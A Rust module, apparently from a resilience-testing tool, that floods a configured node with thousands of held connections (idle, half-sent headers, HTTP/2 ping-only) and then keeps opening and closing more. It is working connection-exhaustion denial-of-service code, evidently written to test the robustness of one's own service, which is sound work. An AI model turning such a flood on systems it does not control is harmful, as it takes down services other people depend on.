//! Thousands of connections to one node without a request under way: silent, idle after a request, answering pings,
//! with half a head; and more connections that are opened and closed.

use super::context::Attack;
use crate::{abuse::open_files::most_connections, raw};
use tokio::net::TcpStream;

/// The number of connections of all sorts: more than a node keeps for one address.
const CROWD: usize = 7_000;
const CROWD_WHEN_SHORT: usize = 600;
/// The number of connections or sockets that are opened at once.
const AT_ONCE: usize = 64;

pub(super) async fn send(attack: &Attack) {
    let wanted = attack.most(CROWD, CROWD_WHEN_SHORT);
    let crowd = wanted.min(most_connections());
    if crowd < wanted {
        attack
            .note(format!("{crowd} connections instead of {wanted}: this system lets no process have more"));
    }
    attack.flood(0.5, AT_ONCE, crowd, |n| open(attack, n)).await;
    // The connections so far are kept, or were closed for newer ones. Further ones are opened and closed.
    attack
        .flood_on(1.0, AT_ONCE, |n| async move {
            let urls = &attack.target().urls;
            attack.sent();
            match n % 3 {
                0 => drop(raw::connect(&urls[n % urls.len()], b"").await),
                1 => drop(raw::connect(&urls[n % urls.len()], b"GET /health/live HTTP/1.1\r\n").await),
                _ => drop(raw::connect(&urls[n % urls.len()], raw::HTTP2).await),
            }
            // The storm has pauses, so that it does not take the whole machine.
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        })
        .await;
}

/// Opens a connection and keeps it open.
async fn open(attack: &Attack, number: usize) {
    let url = &attack.target().urls[0];
    attack.sent();
    let first: &[u8] = match number % 4 {
        0 => b"",
        1 => b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n\r\n",
        2 => b"POST /api/auth/register HTTP/1.1\r\nHost: localhost\r\nX-",
        _ => return pinging(attack, url).await,
    };
    match raw::connect(url, first).await {
        Some(stream) => attack.hold(stream),
        None => attack.answered("not connected"),
    }
}

/// Opens an HTTP/2 connection that only answers pings.
async fn pinging(attack: &Attack, url: &str) {
    let Ok(stream) = TcpStream::connect(raw::addr(url)).await else {
        return attack.answered("not connected");
    };
    let Ok((requests, connection)) = h2::client::handshake(stream).await else {
        return attack.answered("not greeted");
    };
    attack.hold(requests);
    tokio::spawn(connection);
}
